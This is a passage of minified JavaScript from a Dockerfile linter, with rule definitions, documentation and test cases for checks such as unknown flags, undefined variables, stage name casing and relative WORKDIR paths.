CMD ["gunicorn", "app:app"]
`,expect:[]},{name:"no server: a training job",input:`FROM pytorch/pytorch:2.4.0-cuda12.1-cudnn9-runtime
CMD ["python", "train.py"]
`,expect:[]},{name:"a base image that may set its own USER",input:`FROM jupyter/base-notebook
CMD ["jupyter", "lab"]
`,expect:[]},{name:"a build stage's server does not count",input:`FROM python:3.12 AS dev
CMD ["flask", "run"]
FROM gcr.io/distroless/python3
CMD ["app.py"]
`,expect:[]},{name:"official image through docker.io, from a parent stage",input:`FROM docker.io/library/python:3.12 AS base
RUN pip install flask
FROM base
CMD flask run --host=0.0.0.0
`,expect:[{line:4,col:5,message:"runs flask run as root"}]}]},Dm=RS;var OS={id:"ShellFormAfterExecEntrypoint",language:"dockerfile",severity:"warning",docs:{summary:"A shell-form CMD is combined with an exec-form ENTRYPOINT.",why:'With `ENTRYPOINT ["python", "manage.py"]`, CMD supplies its arguments. A shell-form `CMD runserver 0.0.0.0:8000` becomes `["/bin/sh", "-c", "runserver 0.0.0.0:8000"]`, so the entrypoint receives `/bin/sh -c \u2026` as arguments instead of the ones you wrote. Write CMD as a JSON array.',bad:`FROM python:3.12-slim
ENTRYPOINT ["python", "manage.py"]
CMD runserver 0.0.0.0:8000
`,good:`FROM python:3.12-slim
ENTRYPOINT ["python", "manage.py"]
CMD ["runserver", "0.0.0.0:8000"]
`},check({model:n,report:e}){for(let t of n.stages){let s,i;for(let p of t.instructions)p.keyword==="ENTRYPOINT"?s=p:p.keyword==="CMD"&&(i=p);if(!s||!i)continue;let r=Ne(n,s);if(r.kind!=="json"||!r.elements.length||Ne(n,i).kind!=="shell")continue;let a=re(n,i);if(!a.rest||a.flags.length)continue;let c=Qn(a.rest),l=X(n,a.line,a.restStart,a.line.text.trimEnd().length),u=c&&a.contiguous?[{title:"Write CMD as a JSON array",preferred:!0,edits:[{range:l,newText:no(c)}]}]:void 0;e({message:`Shell-form CMD after an exec-form ENTRYPOINT: the entrypoint receives "/bin/sh -c ${a.rest}" as its arguments`,range:i.range.start.line===i.range.end.line?i.range:i.keywordRange,fixes:u})}},tests:[{name:"shell CMD after exec ENTRYPOINT",input:`FROM python:3.12
ENTRYPOINT ["gunicorn"]
CMD -b 0.0.0.0:8000 app:app
`,expect:[{line:3,col:1}],fixed:`FROM python:3.12
ENTRYPOINT ["gunicorn"]
CMD ["-b", "0.0.0.0:8000", "app:app"]
`},{name:"CMD before ENTRYPOINT in the stage",input:`FROM alpine
CMD -v
ENTRYPOINT ["app"]
`,expect:[{line:2}]},{name:"shell features: no fix",input:`FROM alpine
ENTRYPOINT ["app"]
CMD serve $HOME
`,expect:[{line:3}],fixed:`FROM alpine
ENTRYPOINT ["app"]
CMD serve $HOME
`},{name:"exec CMD",input:`FROM alpine
ENTRYPOINT ["app"]
CMD ["--help"]
`,expect:[]},{name:"shell ENTRYPOINT",input:`FROM alpine
ENTRYPOINT app
CMD help
`,expect:[]},{name:"empty ENTRYPOINT",input:`FROM alpine
ENTRYPOINT []
CMD echo hi
`,expect:[]},{name:"different stages",input:`FROM alpine
ENTRYPOINT ["app"]
FROM alpine
CMD echo hi
`,expect:[]},{name:"official image pattern",input:`FROM debian
ENTRYPOINT ["docker-entrypoint.sh"]
CMD ["node"]
`,expect:[]}]},Fm=OS;function Tm(n,e){return e==null?void 0:Ut(e,n.escape).value}function SS(n,e,t){let s=e.toLowerCase(),i=[];for(let r of n.instructions)if(r.keyword==="FROM"){let o=r.stage,a=o.imageRange,c=o.imageValue;if(a&&c&&c.toLowerCase()===s&&o.image!==t){let l=n.findStage(c);l&&l.index<o.index&&i.push({range:a,newText:t})}o.name?.toLowerCase()===s&&o.nameRange&&o.name!==t&&i.push({range:o.nameRange,newText:t})}else if(r.keyword==="COPY"||r.keyword==="RUN"||r.keyword==="ADD"){let o=r.node;for(let a of o.getFlags?.()??[]){let c=a.getName().toLowerCase();if(c==="from"&&Tm(n,a.getValue())?.toLowerCase()===s&&a.getValueRange())i.push({range:a.getValueRange(),newText:t});else if(c==="mount")for(let l of a.getOptions())l.getName().toLowerCase()==="from"&&Tm(n,l.getValue())?.toLowerCase()===s&&l.getValueRange()&&i.push({range:l.getValueRange(),newText:t})}}return i}var MS={id:"StageNameCasing",language:"dockerfile",severity:"info",compat:{buildkit:"StageNameCasing"},docs:{summary:"Stage names should be lowercase.",why:"BuildKit treats stage names case-insensitively and lowercases them, so `AS Builder` and `--from=builder` are the same stage; mixed casing makes references look different from what they are and is reported by `docker build --check`.",bad:`FROM golang:1.22 AS Builder
RUN go build -o /app .

FROM alpine:3.19
COPY --from=Builder /app /app
`,good:`FROM golang:1.22 AS builder
RUN go build -o /app .

FROM alpine:3.19
COPY --from=builder /app /app
`},check({model:n,report:e}){for(let t of n.stages){let s=Te(n,t).name;if(!s||s===s.toLowerCase()||!t.nameRange)continue;let i={title:`Rename stage '${s}' to '${s.toLowerCase()}'`,preferred:!0,edits:SS(n,s,s.toLowerCase())};e({message:`Stage name '${s}' should be lowercase`,range:t.nameRange,fixes:[i]})}},tests:[{name:"mixed-case stage name and its references",input:`FROM alpine AS Base
RUN echo
FROM Base AS Next
COPY --from=Base /a /b
RUN --mount=type=bind,from=BASE,target=/x ls
`,expect:[{line:1,col:16,message:"Stage name 'Base' should be lowercase"},{line:3,message:"'Next'"}],fixed:`FROM alpine AS base
RUN echo
FROM base AS next
COPY --from=base /a /b
RUN --mount=type=bind,from=base,target=/x ls
`},{name:"quoted references are renamed too (the builder removes the quotes)",input:`FROM alpine AS Base
FROM "Base"
COPY --from="Base" /a /b
RUN --mount=type=bind,from="Base",target=/x ls
`,expect:[{line:1,col:16}],fixed:`FROM alpine AS base
FROM base
COPY --from=base /a /b
RUN --mount=type=bind,from=base,target=/x ls
`},{name:"lowercase names are fine",input:`FROM alpine AS base
FROM base AS build-stage_2
`,expect:[]},{name:"unnamed stages",input:`FROM alpine
FROM Ubuntu
`,expect:[]},{name:"an image with the same name is not renamed",input:`FROM Node AS Node
`,expect:[{line:1}],fixed:`FROM Node AS node
`}]},Lm=MS;var AS={id:"UndefinedArgInFrom",language:"dockerfile",severity:"warning",compat:{buildkit:"UndefinedArgInFrom"},docs:{summary:"Variables in FROM must be ARGs declared before the first FROM (or predefined platform ARGs).",why:'FROM only sees global ARGs; an undeclared or misspelled name expands to an empty string, which gives a wrong image tag or a confusing "invalid reference format" error.',bad:"FROM node:${NODE_VERSION}-alpine\n",good:`ARG NODE_VERSION=20
FROM node:\${NODE_VERSION}-alpine
`},check({model:n,report:e}){let t=Rn(n),s=Ks(n).names;for(let i of n.stages){let{image:r,platform:o}=Te(n,i),a=[];for(let c of[o,r]){if(!c||!c.includes("$"))continue;let l=it(c,t,n.escape);for(let u of ro(l))!a.includes(u)&&!so(u)&&a.push(u)}for(let c of a){let l=oo(c,s);e({message:`FROM argument '${c}' is not declared${l?` (did you mean ${l}?)`:""}`,range:i.fromInstruction.range})}}},tests:[{name:"misspelled platform arg",input:`
FROM --platform=$BULIDPLATFORM scratch
`,expect:[{line:2,message:"FROM argument 'BULIDPLATFORM' is not declared (did you mean BUILDPLATFORM?)"}]},{name:"suggests a declared arg",input:`ARG MY_OS=linux
ARG MY_ARCH=amd64
FROM --platform=linux/\${MYARCH} busybox
`,expect:[{line:3,message:"did you mean MY_ARCH?"}]},{name:"no suggestion",input:"ARG tag=latest\nFROM busybox:${tag}${version} AS b\n",expect:[{line:2,message:/'version' is not declared$/}]},{name:"ARG declared in an earlier stage does not count",input:`FROM alpine
ARG V=1
FROM alpine:$V
`,expect:[{line:3}]},{name:"declared and predefined args",input:`ARG base=scratch
ARG DEBUG
FROM $base
FROM --platform=$BUILDPLATFORM scratch\${DEBUG}
FROM scra\${DEBUG:-tch}
FROM alpine:\${UNSET:-3.19}
`,expect:[]}]},Im=AS;function NS(n,e){switch(e.keyword){case"ENV":case"LABEL":case"ARG":{let t=[];for(let s of Ye(n,e).pairs)t.push(s.key),s.value!==void 0&&t.push(s.value);return t}case"COPY":case"ADD":{let{flags:t,words:s}=ts(n,e),i=s.filter(r=>!r.startsWith("<<"));for(let r of t)(r.name==="chown"||r.name==="chmod")&&r.value&&i.push(r.value);return i}case"WORKDIR":case"USER":case"STOPSIGNAL":return[es(n,e).args.trim()];case"VOLUME":return ts(n,e).words;default:return[]}}function ES(n,e,t){let s=qf(e,t.index),i=[];for(let r of NS(n,t)){if(!r.includes("$"))continue;let o=it(r,s,n.escape);for(let a of ro(o))!i.includes(a)&&!so(a)&&i.push(a)}return i}var _S={id:"UndefinedVar",language:"dockerfile",severity:"warning",compat:{buildkit:"UndefinedVar"},docs:{summary:"Variables used in ENV, LABEL, ARG, COPY, ADD, WORKDIR, USER, VOLUME and STOPSIGNAL should be defined before their use.",why:"An undefined variable expands to an empty string, so `COPY $DIR_ASSET .` copies the whole context and `ENV PATH=$PAHT:/x` loses the PATH. Global ARGs are not visible in a stage until it repeats `ARG NAME`. (RUN commands are expanded by the shell and not checked.) The ENV of popular official base images counts as defined (`$GOPATH` in golang, `$JAVA_HOME` in eclipse-temurin, `$NODE_VERSION` in node); on a base image whose environment is not known, only names that are certainly wrong are reported (near misses, names defined later, global ARGs not redeclared).",bad:`FROM alpine:3.19
ARG DIR_ASSETS=assets/
COPY $DIR_ASSET /srv/
`,good:`FROM alpine:3.19
ARG DIR_ASSETS=assets/
COPY $DIR_ASSETS /srv/
`},check({model:n,report:e}){let t=Ks(n).declared;for(let s of ao(n).byStage)for(let i of s.stage.instructions){if(i.keyword==="FROM")continue;let r=ES(n,s,i);if(r.length===0)continue;let o=jf(s,i.index);for(let a of r){let c=oo(a,o,!s.windows);!s.baseKnown&&!(s.defs.has(a)&&s.defs.get(a)>=i.index)&&!c&&!t.has(a)||e({message:`Usage of undefined variable '$${a}'${c?` (did you mean $${c}?)`:""}`,range:i.range})}}},tests:[{name:"used before its ARG",input:`FROM alpine
COPY $foo .
ARG foo=bar
RUN echo $foo
`,expect:[{line:2,message:"Usage of undefined variable '$foo'"}]},{name:"near miss",input:`FROM alpine
ARG DIR_BINARIES=binaries/
ARG DIR_ASSETS=assets/
COPY $DIR_ASSET .
`,expect:[{line:4,message:"'$DIR_ASSET' (did you mean $DIR_ASSETS?)"}]},{name:"PATH typo",input:`FROM alpine
ENV PATH=$PAHT:/tmp/bin
`,expect:[{line:2,message:"(did you mean $PATH?)"}]},{name:"scratch stages",input:`FROM scratch AS first
COPY $foo .
FROM scratch AS second
COPY \${bar} .
`,expect:[{line:2},{line:4}]},{name:"global ARG needs redeclaring",input:`ARG V=1
FROM node:20
COPY app-$V.tgz .
`,expect:[{line:3}]},{name:"defined, inherited and shell-expanded",input:`ARG V=1
FROM alpine AS base
ARG foo=Dockerfile
ARG V
ENV A=1
RUN echo $PATH $UNDEFINED
COPY Dockerfile\${foo} /$V/
FROM base
COPY $foo $A .
LABEL x="\${A}" y='$NOT_EXPANDED' z=\\$ESCAPED
WORKDIR \${UNSET:-/default}
`,expect:[]},{name:"ARG without a value",input:`FROM scratch
ARG foo
COPY Dockerfile\${foo} .
`,expect:[]},{name:"unknown base image env is trusted",input:`FROM ghcr.io/acme/python:3.12
ENV PATH=$PYTHON_HOME/bin:$PATH
WORKDIR $HOME
`,expect:[]},{name:"golang image env",input:`FROM golang:1.22
ENV PATH=$GOPATH/bin:$PATH
RUN echo $GOPATH
WORKDIR $GOPATH/src/app
`,expect:[]},{name:"eclipse-temurin image env",input:`FROM eclipse-temurin:21
ENV PATH=$JAVA_HOME/bin:$PATH
LABEL java=$JAVA_VERSION
`,expect:[]},{name:"python image env",input:`FROM python:3.12-slim
LABEL python.version=$PYTHON_VERSION
ENV LC_ALL=$LANG
`,expect:[]},{name:"node image env",input:`FROM node:20
COPY node-$NODE_VERSION.txt yarn-\${YARN_VERSION}.txt /srv/
`,expect:[]},{name:"image env shadows a global ARG of the same name",input:`ARG NODE_VERSION=20
FROM node:\${NODE_VERSION}-alpine
LABEL node=$NODE_VERSION
`,expect:[]},{name:"image env through stages",input:`FROM golang:1.22 AS build
FROM build AS test
WORKDIR $GOPATH/src
FROM test
COPY . $GOPATH/src/app
`,expect:[]},{name:"registry-prefixed official images",input:`FROM docker.io/library/python:3.12@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
ENV V=$PYTHON_VERSION
FROM library/node:20
ENV V=$NODE_VERSION
FROM index.docker.io/golang
ENV V=$GOLANG_VERSION
`,expect:[]},{name:"known image: names it does not define are reported",input:`FROM python:3.12-slim
WORKDIR $HOME/app
FROM golang:1.22 AS build
FROM build
ENV PATH=$GOPAHT/bin:$PATH
COPY $NODE_VERSION /srv/
`,expect:[{line:2,message:"Usage of undefined variable '$HOME'"},{line:5,message:"Usage of undefined variable '$GOPAHT' (did you mean $GOPATH?)"},{line:6,message:"Usage of undefined variable '$NODE_VERSION'"}]},{name:"image whose environment is only partly known",input:`FROM eclipse-temurin:21-jre
WORKDIR $APP_HOME
`,expect:[]},{name:"Windows tags of a known image",input:`FROM golang:1.22-nanoserver-ltsc2022
WORKDIR $USERPROFILE
`,expect:[]},{name:"proxy args",input:`FROM scratch
ENV http_proxy=$HTTP_PROXY
`,expect:[]},{name:"heredocs, ONBUILD, CMD and HEALTHCHECK are not expanded by BuildKit",input:`FROM scratch
COPY <<EOF /a.txt
$NOT_A_VAR
EOF
ONBUILD COPY $LATER .
CMD echo $X
HEALTHCHECK CMD curl $URL
`,expect:[]},{name:"flags of COPY",input:`FROM scratch
COPY --chown=$APP_USER:0 a /a
`,expect:[{line:2,message:"'$APP_USER'"}]},{name:"same ENV instruction does not define it yet",input:`FROM scratch
ENV A=1 B=$A
`,expect:[{line:2,message:"'$A'"}]},{name:"Windows names are case-insensitive",input:`FROM mcr.microsoft.com/windows/servercore:ltsc2022
ENV GOPATH=C:\\go
ENV PATH=$GoPath\\bin
`,expect:[]},{name:"escape directive",input:`# escape=\`
FROM scratch
ENV A=\`$B
`,expect:[]}]},Pm=_S;function $S(n,e){return Object.keys(Zn).filter(t=>t!==e&&n in Zn[t]&&!cl[t]?.has(n))}var CS={id:"UnknownFlag",language:"dockerfile",severity:"error",docs:{summary:"An instruction has a `--flag` it does not accept, or a flag value the builder rejects.",why:"Each instruction accepts a fixed set of flags (`COPY --from --chown --chmod --link --parents --exclude`, `RUN --mount --network --security`, \u2026). A misspelt flag, a flag of another instruction, a string flag without `=value` or an unknown `--network` mode stops `docker build` with `unknown flag`.",bad:`FROM python:3.12-slim
COPY --chmown=app:app . /app
RUN --network=off pip install -r /app/requirements.txt
`,good:`FROM python:3.12-slim
COPY --chown=app:app . /app
RUN --network=none pip install -r /app/requirements.txt
`},check({model:n,report:e}){let t;for(let s of n.instructions){let i=s.keyword;if(!Rt(i))continue;let r=re(n,s);if(!r.flags.length)continue;let o=Zn[i]??{},a=i==="HEALTHCHECK"&&r.words[0]?.raw.toUpperCase()==="NONE";for(let c=0;c<r.flags.length;c++){let l=r.flags[c],u=X(n,r.line,l.start,l.end),p=X(n,r.line,l.start+2,l.nameEnd);if(Ef.has(i)||a){e({message:`--${l.name} is ignored: ${a?"HEALTHCHECK NONE":i} takes no flags`,range:u,severity:"warning",fixes:[{title:`Remove --${l.name}`,edits:[{range:X(n,r.line,l.start,r.flags[c+1]?.start??r.restStart),newText:""}]}]});continue}let d=o[l.name];if(!d){let h=He(l.name,Object.keys(o)),m=$S(l.name,i),g=`Unknown flag --${l.name} for ${i}`;h?g+=` (did you mean --${h}?)`:m.length?g+=`; --${l.name} belongs to ${m.join(", ")}`:Object.keys(o).length||(g+=`: ${i} takes no flags`);let w=h?[{title:`Change to --${h}`,preferred:!0,edits:[{range:p,newText:h}]}]:void 0;e({message:g,range:p,fixes:w});continue}if(cl[i]?.has(l.name)&&(t??=Ff(n),!t)){e({message:`${i} --${l.name} needs the labs frontend: add \`# syntax=docker/dockerfile:1-labs\``,range:p});continue}let f=l.value;if(d!=="bool"&&f===void 0){let h=r.words[0],m=[],g=i==="COPY"||i==="ADD"?r.words.length>=3:r.words.length>=2;h&&l===r.flags[r.flags.length-1]&&g&&r.contiguous&&m.push({title:`Write --${l.name}=${h.raw}`,preferred:!0,edits:[{range:X(n,r.line,l.end,h.start),newText:"="}]}),e({message:`Missing a value on flag --${l.name}: write --${l.name}=<value>`,range:u,fixes:m.length?m:void 0});continue}if(!(f===void 0||f.includes("$"))){if(d==="bool"&&f!==""&&!/^(true|false)$/i.test(f))e({message:`--${l.name} expects true or false, not \`${f}\``,range:u});else if(d==="bool"&&f==="")e({message:`Missing a value on flag --${l.name}=`,range:u});else if(i==="RUN"&&(l.name==="network"||l.name==="security")){let h=l.name==="network"?_f:$f;if(!h.includes(f)){let m=He(f,h),g=X(n,r.line,l.nameEnd+1,l.end);e({message:`Unknown --${l.name} value \`${f}\`: use ${h.join(", ")}${m?` (did you mean ${m}?)`:""}`,range:g,fixes:m&&r.contiguous?[{title:`Change to ${m}`,preferred:!0,edits:[{range:g,newText:m}]}]:void 0})}}}}}},tests:[{name:"misspelt COPY flag",input:`FROM alpine
COPY --chmown=1:1 a /a
`,expect:[{line:2,col:8,message:"did you mean --chown?"}],fixed:`FROM alpine
COPY --chown=1:1 a /a
`},{name:"flag of another instruction",input:`FROM alpine
ADD --from=build /a /b
`,expect:[{line:2,message:"belongs to COPY"}]},{name:"flag on an instruction without flags",input:`FROM alpine
ENV --foo=1 A=1
`,expect:[{line:2,message:"ENV takes no flags"}]},{name:"FROM platform misspelt",input:`FROM --platfrom=linux/amd64 alpine
`,expect:[{line:1,col:8}],fixed:`FROM --platform=linux/amd64 alpine
`},{name:"case matters",input:`FROM alpine
COPY --Link a /a
`,expect:[{line:2,message:"--link"}],fixed:`FROM alpine
COPY --link a /a
`},{name:"string flag without value",input:`FROM alpine
COPY --chmod 755 run.sh /usr/local/bin/
`,expect:[{line:2,col:6,message:"Missing a value"}],fixed:`FROM alpine
COPY --chmod=755 run.sh /usr/local/bin/
`},{name:"bool with bad value",input:`FROM alpine
COPY --link=yes a /a
`,expect:[{line:2,message:"true or false"}]},{name:"bool forms",input:`FROM alpine
COPY --link a /a
COPY --link=false --parents=TRUE a /a
`,expect:[]},{name:"network value",input:`FROM alpine
RUN --network=nonee wget x
`,expect:[{line:2,col:15,message:"did you mean none?"}],fixed:`FROM alpine
RUN --network=none wget x
`},{name:"security value",input:`FROM alpine
RUN --security=privileged id
`,expect:[{line:2,message:"sandbox, insecure"}]},{name:"all known flags",input:`FROM --platform=$BUILDPLATFORM alpine AS b
RUN --mount=type=cache,target=/root/.cache --mount=type=secret,id=x --network=host --security=insecure echo
COPY --from=b --chown=1:1 --chmod=0755 --link --parents --exclude=*.md --exclude=*.txt a /a
ADD --chown=1 --chmod=644 --link --checksum=sha256:abc --keep-git-dir=true --unpack --exclude=x https://e.x/a.tgz /a
HEALTHCHECK --interval=30s --timeout=3s --start-period=5s --start-interval=1s --retries=3 CMD ["true"]
`,expect:[]},{name:"variables in values",input:`FROM alpine
ARG NET=none
RUN --network=$NET echo
`,expect:[]},{name:"labs flag without labs",input:`FROM alpine
RUN --device=name=gpu echo
`,expect:[{line:2,message:"labs"}]},{name:"labs flag with labs",input:`# syntax=docker/dockerfile:1-labs
FROM alpine
RUN --device=name=gpu echo
`,expect:[]},{name:"ARG flags are ignored",input:`FROM alpine
ARG --x=1 A
`,expect:[{line:2,severity:"warning"}],fixed:`FROM alpine
ARG A
`},{name:"HEALTHCHECK NONE ignores flags",input:`FROM alpine
HEALTHCHECK --interval=5s NONE
`,expect:[{line:2,severity:"warning"}]},{name:"double dash ends flags",input:`FROM alpine
CMD -- --help
`,expect:[]},{name:"dashes in the command are not flags",input:`FROM alpine
RUN ls --all
CMD ["--help"]
`,expect:[]},{name:"CMD starting with --",input:`FROM alpine
CMD --help
`,expect:[{line:2,message:"CMD takes no flags"}]},{name:"flags over continuation",input:`FROM alpine
RUN --mount=type=cache,target=/var/cache/apk \\
    --network=none \\
    apk add curl
`,expect:[]},{name:"heredoc after flags",input:`FROM alpine
RUN --mount=type=cache,target=/x <<EOF
--not-a-flag
EOF
`,expect:[]},{name:"quoted flag values",input:`FROM alpine
COPY --chown="app:app" --exclude='*.md' a /a
`,expect:[]}]},jm=CS;var DS={id:"UnknownInstruction",language:"dockerfile",severity:"error",docs:{summary:"A line starts with a word that is not a Dockerfile instruction.",why:"`docker build` stops with `unknown instruction` before building anything. The usual causes are a typo (`RUNN`, `COPPY`) or a missing line continuation, which turns the next line of a RUN into an instruction of its own.",bad:`FROM python:3.12-slim
RUNN pip install flask
`,good:`FROM python:3.12-slim
RUN pip install flask
`},check({model:n,report:e}){for(let t of n.instructions){if(Rt(t.keyword))continue;let s=[],i=/^[A-Za-z]+$/.test(t.written)?He(t.keyword,zs):void 0;if(i){let a=t.written===t.written.toLowerCase()?i.toLowerCase():i;s.push({title:`Change to ${a}`,preferred:!0,edits:[{range:t.keywordRange,newText:a}]})}let r=n.instructions[t.index-1],o="";if(!i&&r&&r.range.end.line===t.range.start.line-1&&t.keywordRange.start.character>0){let a=r.range.end.line,c=n.lines.lineText(a);if(!c.trimEnd().endsWith(n.escape)){o=` (missing \`${n.escape}\` at the end of line ${a+1}?)`;let l={line:a,character:c.length};s.push({title:`Continue line ${a+1} with ${n.escape}`,edits:[{range:{start:l,end:l},newText:` ${n.escape}`}]})}}e({message:`Unknown instruction: ${t.keyword}${i?` (did you mean ${i}?)`:o}`,range:t.keywordRange,fixes:s.length?s:void 0})}},tests:[{name:"typo of RUN",input:`FROM alpine
RUNN echo hi
`,expect:[{line:2,col:1,message:"did you mean RUN?"}],fixed:`FROM alpine
RUN echo hi
`},{name:"typo of COPY keeps lower case",input:`FROM alpine
coppy a /a
`,expect:[{line:2,message:"COPY"}],fixed:`FROM alpine
copy a /a
`},{name:"ENTRYPONT",input:`FROM alpine
ENTRYPONT ["sh"]
`,expect:[{line:2,message:"ENTRYPOINT"}],fixed:`FROM alpine
ENTRYPOINT ["sh"]
`},{name:"missing continuation",input:`FROM debian
RUN apt-get update
    && apt-get install -y curl
`,expect:[{line:3,col:5,message:"missing `\\` at the end of line 2"}],fixed:`FROM debian
RUN apt-get update \\
    && apt-get install -y curl
`},{name:"far from anything",input:`FROM alpine
FOOBARBAZ x
`,expect:[{line:2,message:"Unknown instruction: FOOBARBAZ"}]},{name:"all instructions, any case",input:`from alpine
Run echo
cmd ["x"]
Maintainer me
stopsignal SIGTERM
`,expect:[]},{name:"heredoc bodies are not instructions",input:`FROM alpine
RUN <<EOF
set -e
RUNN not an instruction
EOF
COPY <<-EOT /app/conf
	key=value
	EOT
`,expect:[]},{name:"continuation lines",input:`FROM alpine
RUN apk add \\
    curl \\
    git
`,expect:[]},{name:"escape backtick continuation",input:`# escape=\`
FROM mcr.microsoft.com/windows/servercore:ltsc2022
RUN dir \`
    C:\\
`,expect:[]},{name:"CRLF and BOM",input:`\uFEFFFROM alpine\r
RUN echo \\\r
  hi\r
`,expect:[]},{name:"empty file",input:"",expect:[]},{name:"only comments",input:`# just
# comments
`,expect:[]},{name:"lone escape at EOF",input:`FROM alpine
RUN echo \\`,expect:[]},{name:"ONBUILD trigger is checked elsewhere",input:`FROM alpine
ONBUILD RUN echo
`,expect:[]}]},qm=DS;function FS(n,e){return os(n,e).imageName==="scratch"}function TS(n){return n.startsWith("/")||n.startsWith("\\")||/^[A-Za-z]:/.test(n)}var LS={id:"WorkdirRelativePath",language:"dockerfile",severity:"warning",compat:{buildkit:"WorkdirRelativePath"},aliases:["DL3000"],docs:{summary:"A relative WORKDIR needs an absolute WORKDIR earlier in the stage (or in the stage it builds on).",why:"A relative WORKDIR is resolved against the base image's working directory, so the files land somewhere else as soon as the base image changes it. The quick fix (`/path`) is offered only for stages built from `scratch`, whose working directory is `/`: on another image the path is relative to that image's WORKDIR (`WORKDIR src` on golang is /go/src), which only you know you meant.",bad:`FROM node:20
WORKDIR app
COPY . .
`,good:`FROM node:20
WORKDIR /app
COPY . .
`},check({model:n,report:e}){let t=ao(n).byStage,s=new Map;for(let i of t){let r=i.parent?s.get(i.parent.stage.index)??!1:!1;for(let o of i.stage.instructions){if(o.keyword!=="WORKDIR")continue;let a=(o.rawArgsContent??"").trim(),c=st(a,n.escape);if(!r&&c&&!a.startsWith("$")&&!TS(c)){let l=!a.includes("$")&&!/[\s"'\\]/.test(a)&&o.argsRange&&FS(n,i.stage);e({message:`Relative workdir "${c}" can have unexpected results if the base image changes`,range:o.range,fixes:l?[{title:`Use /${c}`,edits:[{range:o.argsRange,newText:"/"+a}]}]:void 0})}r=!0}s.set(i.stage.index,r)}},tests:[{name:"relative workdir",input:`FROM scratch
WORKDIR app/
`,expect:[{line:2,message:'Relative workdir "app/"'}],fixed:`FROM scratch
WORKDIR /app/
`},{name:"no fix on an external base image: the path is relative to the image's own WORKDIR (golang: /go)",input:`FROM golang:1.22
WORKDIR src
FROM golang:1.22 AS g
FROM g
WORKDIR app
ARG BASE=scratch
FROM \${BASE}
WORKDIR app
`,expect:[{line:2},{line:5},{line:8}],fixed:`FROM golang:1.22
WORKDIR src
FROM golang:1.22 AS g
FROM g
WORKDIR app
ARG BASE=scratch
FROM \${BASE}
WORKDIR app
`},{name:"fixed on a stage built from scratch, directly or through other stages",input:`FROM scratch AS s
FROM s
WORKDIR src
`,expect:[{line:3}],fixed:`FROM scratch AS s
FROM s
WORKDIR /src
`},{name:"after an absolute one",input:`FROM scratch
WORKDIR /app
WORKDIR sub
`,expect:[]},{name:"inherited from the parent stage",input:`FROM scratch AS a
WORKDIR /app

FROM a AS b
WORKDIR subdir/
`,expect:[]},{name:"not inherited from an unrelated stage",input:`FROM scratch AS a
WORKDIR /app
FROM scratch
WORKDIR sub
`,expect:[{line:4}]},{name:"variables and Windows paths",input:`FROM scratch
WORKDIR $HOME
FROM scratch
WORKDIR C:\\\\app
`,expect:[]},{name:"quoted absolute path",input:`FROM scratch
WORKDIR "/my app"
`,expect:[]}]},Um=LS;var Hm=[Bf,zf,Kf,Xf,Zf,Qf,eh,th,nh,sh,ih,rh,oh,ah,ch,lh,uh,ph,dh,fh,hh,mh,gh,yh,bh,wh,vh,kh,xh,Rh,Oh,Sh,Ah,Nh,_h,$h,Ch,Dh,Fh,Th,Lh,Ph,jh,qh,Uh,Hh,Gh,Vh,zh,Jh,Xh,Zh,Qh,em,nm,sm,am,cm,lm,dm,fm,mm,ym,bm,wm,vm,km,xm,Rm,Om,Sm,Mm,Em,_m,$m,Cm,Dm,Fm,Lm,Im,Pm,jm,qm,Um];var IS=/^\s*#\s*(hadolint|slipway)\s+(global\s+)?ignore\s*=\s*([A-Za-z0-9_,\s-]+)/i,PS=/ignore\s*=/i;function Ym(n){return n.memoize("suppressions",()=>{let e={global:new Set,byLine:new Map};if(!PS.test(n.text))return e;let t=0;for(let s of n.comments){let i=IS.exec(s.getRange()?n.textOf(s.getRange()):"");if(!i)continue;let r=i[3].split(",").map(c=>c.trim().toLowerCase()).filter(Boolean);if(i[2]){for(let c of r)e.global.add(c);continue}let o=s.getRange().start.line;for(;t<n.instructions.length&&n.instructions[t].range.start.line<=o;)t++;let a=n.instructions[t];if(a)for(let c=a.range.start.line;c<=a.range.end.line;c++){let l=e.byLine.get(c);l||e.byLine.set(c,l=new Set);for(let u of r)l.add(u)}}return e})}function Dl(n){return n.compat?.buildkit}function Bm(n){let e={skip:new Set,skipAll:!1,error:!1,experimental:new Set,experimentalAll:!1};for(let t of n.split(";")){let s=t.indexOf("=");if(s<0)continue;let i=t.slice(0,s).trim().toLowerCase(),r=t.slice(s+1).split(",").map(o=>o.trim().toLowerCase()).filter(Boolean);if(i==="skip")for(let o of r)o==="all"?e.skipAll=!0:e.skip.add(o);else if(i==="error")e.error=r[0]==="true"||r[0]==="1";else if(i==="experimental")for(let o of r)o==="all"?e.experimentalAll=!0:e.experimental.add(o)}return e}function Fl(n,e){let t=e.BUILDKIT_DOCKERFILE_CHECK;if(t!==void 0)return Bm(t);let s=n.checkDirective;if(s)return n.memoize("checkDirectiveOptions",()=>({skip:new Set([...s.skip].map(i=>i.toLowerCase())),skipAll:s.skipAll,error:s.error,experimental:new Set([...s.experimental].map(i=>i.toLowerCase())),experimentalAll:s.experimentalAll}))}var Gm=/^[^\S\r\n]*#[^\S\r\n]*check[^\S\r\n]*=/im;function jS(n,e){let t=n.text.indexOf(`
`,e);return t>=0&&Gm.test(n.text.slice(t))}function qS(n){return n.memoize("localCheckSkips",()=>{let e=new Map,t=Gm.exec(n.text);if(!t||n.checkDirective&&!jS(n,t.index))return e;let s=n.checkDirective?n.checkDirective.range.start.line:-1;for(let i of n.instructions){let r;for(let o=i.range.start.line-1;o>=0;o--){let a=n.lines.lineText(o);if(!/^\s*#/.test(a))break;if(o===s)continue;let c=/^\s*#\s*check\s*=\s*(\S+)/i.exec(a);if(!c)continue;let l=Bm(c[1]);if(!r)r=l;else{r.skipAll||=l.skipAll;for(let u of l.skip)r.skip.add(u)}}if(r)for(let o=i.range.start.line;o<=i.range.end.line;o++)e.set(o,r)}return e})}function Wm(n,e){return!!n&&(n.skipAll||e.some(t=>n.skip.has(t)))}var Vm={languages:["dockerfile"],parse:n=>new ns(n),rules:Hm,isSuppressed(n,e,t,{buildArgs:s}){let i=Ym(n),r=jn(t);if(i.global.size&&r.some(c=>i.global.has(c)))return!0;let o=i.byLine.get(e.range.start.line);if(o&&r.some(c=>o.has(c)))return!0;let a=Dl(t);return!!(a&&(Wm(Fl(n,s),[a.toLowerCase()])||Wm(qS(n).get(e.range.start.line),r)))},adjustSeverity(n,e,t,s){return Dl(t)&&Fl(n,s?.buildArgs??{})?.error&&e.severity!=="error"?"error":e.severity},enabledByDocument(n,e,{buildArgs:t}){let 